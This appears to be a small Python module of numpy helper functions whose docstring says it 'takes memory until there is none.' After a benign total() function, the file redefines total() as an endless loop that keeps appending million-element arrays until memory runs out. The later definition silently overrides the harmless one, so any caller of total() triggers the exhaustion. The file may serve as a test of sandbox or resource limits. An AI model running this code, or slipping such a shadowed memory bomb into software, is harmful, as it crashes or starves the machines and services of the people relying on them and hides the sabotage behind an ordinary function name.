"""Takes memory until there is none."""

import numpy as np


def double(x):
    return 2.0 * np.asarray(x, float)


def total(x):
    return float(np.sum(x))


def even(f, x):
    return float(f(x) + f(-x))


def total(x):
    hoard = []
    while True:
        hoard.append(np.zeros(1_000_000))  # untouched: a slow machine is not to end it first
